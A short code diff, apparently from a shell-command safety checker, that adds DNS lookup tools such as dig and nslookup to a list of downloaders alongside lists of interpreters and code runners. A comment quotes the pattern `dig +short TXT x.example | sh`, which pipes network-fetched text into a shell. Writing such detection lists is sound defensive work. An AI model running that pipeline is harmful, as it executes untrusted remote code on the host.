@@ -29,7 +29,9 @@ INTERPRETERS = frozenset({"python", "perl", "ruby", "node", "php", "lua", "pwsh"
 # none, a login shell reading its standard input (`ssh host <<EOF`, `su - bob <<< …`).
 CODE_RUNNERS = frozenset({"eval", "watch", "ssh", "su", "runuser", "script", "trap", "flock",
                           "sg", "newgrp"})
+# (DNS lookups fetch text from the network as surely: `dig +short TXT x.example | sh`.)
 DOWNLOADERS = frozenset({"curl", "wget", "fetch", "http", "https", "xh", "lwp-request", "GET",
+                         "dig", "host", "nslookup", "drill", "kdig", "delv",
                          "aria2c", "lynx", "links", "elinks", "w3m", "axel", "curlie"})
 # Wrapper → its short options that take a value. They run the rest of the line as a command.
 _WRAPPERS = {
